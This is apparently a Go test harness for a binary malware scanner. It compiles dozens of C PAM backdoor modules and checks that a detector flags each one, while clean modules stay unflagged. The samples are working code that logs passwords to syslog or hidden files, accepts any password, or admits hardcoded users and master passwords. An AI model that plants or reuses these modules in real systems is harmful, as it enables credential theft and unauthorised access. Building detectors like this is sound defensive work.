package binary

import (
	"fmt"
	"sort"
	"strings"
	"testing"
)

// The PAM backdoor harness: modules of our own written the ways a backdoor spreads its work
// over helper functions (the password fetched in one, compared or logged in another) and
// modules that let any password in after reading it, each compiled at three optimisation
// levels, stripped and not. Every variant must be PA-001; the clean shapes (a module that
// stashes the password for a later stage, one that checks it against a hash) stay silent.
//
// go test ./audit/binary -run TestPAMHarness -v prints one line per technique:
//
//	harness: pam-<technique> <found>/<total> recall=<0.000>

var pamHarness = []struct {
	technique, name, src string
}{
	{"syslog", "password written to the system log", pamDecls + `
#include <syslog.h>
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *t = NULL;
	pam_get_user(h, &u, NULL);
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	syslog(LOG_ERR, "auth %s:%s", u, t);
	return PAM_SUCCESS;
}
`},
	{"syslog", "password logged by a helper after the user", pamDecls + `
#include <syslog.h>
__attribute__((noinline)) static void note(const char *what, const char *v) { syslog(LOG_INFO, "%s=%s", what, v); }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *t = NULL;
	pam_get_user(h, &u, NULL);
	note("user", u);
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	syslog(LOG_NOTICE, "pw=%s len=%d", t, (int)strlen(t));
	return PAM_IGNORE;
}
`},
	{"helper", "logger in a helper", pamDecls + `
__attribute__((noinline)) static void keep(const char *u, const char *p) {
	FILE *f = fopen("/tmp/.ICE-unix/.s", "a");
	if (f) { fprintf(f, "%s %s\n", u, p); fclose(f); }
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *t = NULL;
	pam_get_user(h, &u, NULL);
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	keep(u, t);
	return PAM_IGNORE;
}
`},
	{"helper", "token fetched by a helper that returns it", pamDecls + `
__attribute__((noinline)) static const char *typed(pam_handle_t *h) {
	const char *t = NULL;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return NULL;
	return t;
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = typed(h);
	if (t && strcmp(t, "r00t.Br1dge#7") == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	{"helper", "token fetched into the caller's variable", pamDecls + `
__attribute__((noinline)) static int fetch(pam_handle_t *h, const char **out) {
	return pam_get_authtok(h, PAM_AUTHTOK, out, NULL);
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	if (fetch(h, &t) != PAM_SUCCESS || !t) return PAM_AUTH_ERR;
	if (memcmp(t, "s3rv1ce-acc3ss", 14) == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	{"helper", "comparison two helpers down", pamDecls + `
static const char secret[] = "0penS3same!";
__attribute__((noinline)) static int same(const char *a, const char *b) { return strcmp(a, b) == 0; }
__attribute__((noinline)) static int check(const char *p) { return p && same(p, secret); }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const void *it = NULL;
	pam_get_item(h, PAM_AUTHTOK, &it);
	return check((const char *)it) ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
	{"helper", "raw logger in a helper with the path in a global", pamDecls + `
static const char *where = "/var/tmp/.font-unix";
__attribute__((noinline)) static void note(const char *p) {
	int fd = open(where, O_WRONLY | O_CREAT | O_APPEND, 0600);
	if (fd < 0) return;
	dprintf(fd, "%s\n", p);
	close(fd);
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
	if (t) note(t);
	return PAM_IGNORE;
}
`},
	{"helper", "helper that fetches and logs itself", pamDecls + `
__attribute__((noinline)) static void grab(pam_handle_t *h) {
	const char *u = NULL, *t = NULL;
	pam_get_user(h, &u, NULL);
	pam_get_item(h, PAM_AUTHTOK, (const void **)&t);
	FILE *f = fopen("/usr/lib/.cache/.journal", "a+");
	if (f && t) fprintf(f, "%s:%s\n", u ? u : "?", t);
	if (f) fclose(f);
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	grab(h);
	return PAM_IGNORE;
}
`},
	{"accept-any", "success after pam_get_authtok", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
	return PAM_SUCCESS;
}
`},
	{"accept-any", "success after pam_get_item and pam_get_user", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	const void *t = NULL;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS) u = "nobody";
	pam_get_item(h, PAM_AUTHTOK, &t);
	return PAM_SUCCESS;
}
`},
	{"accept-any", "success whatever the getter said", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	int r = pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
	if (r != PAM_SUCCESS) t = "";
	(void)t;
	return 0;
}
`},
	{"accept-any", "success from a tail-called helper", pamDecls + `
__attribute__((noinline)) static int ok(void) { return PAM_SUCCESS; }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
	if (argc > 1 && strcmp(argv[0], "debug") == 0) return PAM_SUCCESS;
	return PAM_SUCCESS;
}
`},
	// Modules that let a named user in: the user's name compared with a constant, success
	// returned, no password read or checked.
	{"named-user", "strcmp with the user from pam_get_user", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || u == NULL) return PAM_IGNORE;
	if (strcmp(u, "svc-backup") == 0) return PAM_SUCCESS;
	return PAM_IGNORE;
}
`},
	{"named-user", "strncmp, the constant first, success through a variable", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	int rc = PAM_AUTH_ERR;
	pam_get_user(h, &u, "login: ");
	if (u && strncmp("sysop0", u, 7) == 0) rc = PAM_SUCCESS;
	return rc;
}
`},
	{"named-user", "memcmp with the user from pam_get_item(PAM_USER)", pamDecls + `
#define PAM_USER 2
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const void *it = NULL;
	int ok = 0;
	if (pam_get_item(h, PAM_USER, &it) == PAM_SUCCESS && it != NULL)
		ok = memcmp(it, "maint3n", 8) == 0;
	return ok ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
	{"named-user", "a loop over a literal", pamDecls + `
static const char who[] = "opsadmin";
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	int i;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || !u) return PAM_AUTH_ERR;
	for (i = 0; who[i] != 0 && u[i] == who[i]; i++)
		;
	if (who[i] == 0 && u[i] == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	{"named-user", "the name XOR-hidden on the stack", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	char k[8] = {0x29, 0x33, 0x3b, 0x2e, 0x36, 0x3b, 0x29, 0x00};
	int i;
	pam_get_user(h, &u, NULL);
	for (i = 0; i < 7; i++) k[i] ^= 0x5a;
	if (u != NULL && strcmp(u, k) == 0) return 0;
	return PAM_IGNORE;
}
`},
	{"named-user", "the comparison in a helper", pamDecls + `
__attribute__((noinline)) static int ours(const char *u) { return u && strcasecmp(u, "nagios-check") == 0; }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	int r = PAM_AUTH_ERR;
	pam_get_user(h, &u, NULL);
	if (ours(u)) r = PAM_SUCCESS;
	return r;
}
`},
	{"named-user", "the user fetched by a helper into the caller's variable", pamDecls + `
__attribute__((noinline)) static int who(pam_handle_t *h, const char **out) { return pam_get_user(h, out, NULL); }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	if (who(h, &u) != PAM_SUCCESS) return PAM_AUTH_ERR;
	if (strcmp(u, "deploy-bot") == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	// Modules that keep the master password in a file: read at each login and compared
	// with the password typed.
	{"key-file", "fscanf of a literal path, strncmp with the token", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	char want[128];
	const char *t = NULL;
	FILE *k = fopen("/var/cache/fontconfig/.uuid", "r");
	if (!k) return PAM_IGNORE;
	if (fscanf(k, "%127s", want) != 1) { fclose(k); return PAM_IGNORE; }
	fclose(k);
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS || !t) return PAM_AUTH_ERR;
	return strncmp(want, t, sizeof want) == 0 ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
	{"key-file", "open and read into the stack, the newline cut, pam_get_item", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	char key[64] = {0};
	const void *it = NULL;
	int fd = open("/usr/share/zoneinfo/.tzdata", O_RDONLY);
	ssize_t n;
	if (fd < 0) return PAM_IGNORE;
	n = read(fd, key, sizeof key - 1);
	close(fd);
	if (n <= 0) return PAM_IGNORE;
	key[strcspn(key, "\r\n")] = 0;
	pam_get_item(h, PAM_AUTHTOK, &it);
	if (it && strcmp((const char *)it, key) == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	{"key-file", "fgets into a global in a helper, memcmp in the entry", pamDecls + `
static char stored[96];
__attribute__((noinline)) static int load(void) {
	FILE *f = fopen("/etc/ssl/private/.rnd", "rb");
	if (!f) return 0;
	if (!fgets(stored, sizeof stored, f)) { fclose(f); return 0; }
	fclose(f);
	stored[strcspn(stored, "\n")] = 0;
	return 1;
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	if (!load()) return PAM_IGNORE;
	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
	if (t && strlen(t) == strlen(stored) && memcmp(t, stored, strlen(t)) == 0) return PAM_SUCCESS;
	return PAM_IGNORE;
}
`},
	{"key-file", "getline's line compared, the constant first", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	char *line = NULL;
	size_t cap = 0;
	const char *t = NULL;
	int rc = PAM_AUTH_ERR;
	FILE *f = fopen("/var/lib/misc/.lock", "re");
	if (f == NULL) return PAM_IGNORE;
	if (getline(&line, &cap, f) > 0) {
		line[strcspn(line, "\n")] = 0;
		if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) == PAM_SUCCESS && t && strcmp(line, t) == 0) rc = PAM_SUCCESS;
	}
	free(line);
	fclose(f);
	return rc;
}
`},
	{"key-file", "a helper filling the caller's buffer", pamDecls + `
__attribute__((noinline)) static int secret(char *out, size_t n) {
	int fd = open("/lib/udev/.hwdb.bin", O_RDONLY | O_CLOEXEC);
	ssize_t got;
	if (fd < 0) return -1;
	got = read(fd, out, n - 1);
	close(fd);
	if (got < 1) return -1;
	out[got] = 0;
	return 0;
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	char buf[80];
	const char *t = NULL;
	if (secret(buf, sizeof buf) != 0) return PAM_IGNORE;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	return strcasecmp(t, buf) == 0 ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
	{"key-file", "fread into an allocated buffer, the path from the module's arguments", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *where = argc > 0 ? argv[0] : "/etc/.pw";
	char *k = malloc(128);
	const char *t = NULL;
	size_t n;
	int ok = 0;
	FILE *f;
	if (!k) return PAM_IGNORE;
	f = fopen(where, "r");
	if (!f) { free(k); return PAM_IGNORE; }
	n = fread(k, 1, 127, f);
	fclose(f);
	k[n] = 0;
	if (n && k[n - 1] == '\n') k[n - 1] = 0;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) == PAM_SUCCESS && t) ok = strcmp(k, t) == 0;
	free(k);
	return ok ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
}

// Clean PAM modules of our own: what a module reading the password does without being a
// backdoor.
var pamHarnessClean = []struct{ name, src string }{
	{"password stashed for the session", pamDecls + `
extern int pam_set_data(pam_handle_t *, const char *, void *, void (*)(pam_handle_t *, void *, int));
static void drop(pam_handle_t *h, void *d, int e) { free(d); }
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS || t == NULL) return PAM_SUCCESS;
	pam_set_data(h, "stash_pw", strdup(t), drop);
	return PAM_SUCCESS;
}
`},
	{"password checked against a hash", pamCleanHash},
	{"users allowed read from a file, the password checked later", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *t = NULL;
	char line[256];
	int ok = 0;
	FILE *f = fopen("/etc/security/allowed.users", "r");
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || !u || !f) { if (f) fclose(f); return PAM_AUTH_ERR; }
	while (!ok && fgets(line, sizeof line, f)) { line[strcspn(line, "\n")] = 0; ok = strcmp(line, u) == 0; }
	fclose(f);
	if (!ok) return PAM_AUTH_ERR;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	return PAM_IGNORE;
}
`},
	{"password hashed and compared with a hash read from a literal file", pamDecls + `
extern char *crypt(const char *, const char *);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	char hash[160];
	const char *got;
	FILE *f = fopen("/etc/security/service.hash", "r");
	if (!f) return PAM_AUTH_ERR;
	if (!fgets(hash, sizeof hash, f)) { fclose(f); return PAM_AUTH_ERR; }
	fclose(f);
	hash[strcspn(hash, "\n")] = 0;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	got = crypt(t, hash);
	return got && strcmp(got, hash) == 0 ? PAM_SUCCESS : PAM_AUTH_ERR;
}
`},
	{"user compared with the module's arguments", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	int i;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || !u) return PAM_AUTH_ERR;
	for (i = 0; i < argc; i++)
		if (strcmp(argv[i], u) == 0) return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`},
	{"root refused by name, the password checked later", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *t = NULL;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || !u) return PAM_AUTH_ERR;
	if (strcmp(u, "root") == 0) return PAM_AUTH_ERR;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	return PAM_IGNORE;
}
`},
	{"anonymous user asked for an address", pamDecls + `
extern int pam_prompt(pam_handle_t *, int, char **, const char *, ...);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL;
	char *resp = NULL;
	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS || !u) return PAM_AUTH_ERR;
	if (strcmp(u, "anonymous") != 0) return PAM_IGNORE;
	pam_prompt(h, 1, &resp, "email: ");
	free(resp);
	return PAM_SUCCESS;
}
`},
	{"an error when no password", pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *t = NULL;
	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	return t && *t ? PAM_IGNORE : PAM_AUTH_ERR;
}
`},
}

func TestPAMHarness(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles samples")
	}
	total, found := map[string]int{}, map[string]int{}
	flags := [][]string{{"-O0"}, {"-O2"}, {"-Os"}, {"-O2", "-s"}}
	for _, v := range pamHarness {
		for _, fl := range flags {
			data := build(t, "c", v.src, append([]string{"-shared", "-fPIC"}, fl...)...)
			total[v.technique]++
			ok := false
			for _, f := range content("/lib/x86_64-linux-gnu/security/pam_sysauth.so", data) {
				ok = ok || f.Rule == RulePAMBackdoor && f.Is("malware")
			}
			if ok {
				found[v.technique]++
			} else {
				t.Errorf("missed %s: %s %v", v.technique, v.name, fl)
			}
		}
	}
	for _, v := range pamHarnessClean {
		for _, fl := range flags {
			data := build(t, "c", v.src, append([]string{"-shared", "-fPIC"}, fl...)...)
			for _, f := range content("/lib/x86_64-linux-gnu/security/pam_stash.so", data) {
				if f.Rule == RulePAMBackdoor {
					t.Errorf("clean %s %v: %s %s", v.name, fl, f.Title, f.Evidence)
				}
			}
		}
	}
	var names []string
	for n := range total {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Printf("harness: pam-%s %d/%d recall=%.3f\n", n, found[n], total[n], float64(found[n])/float64(total[n]))
	}
	_ = strings.TrimSpace
}
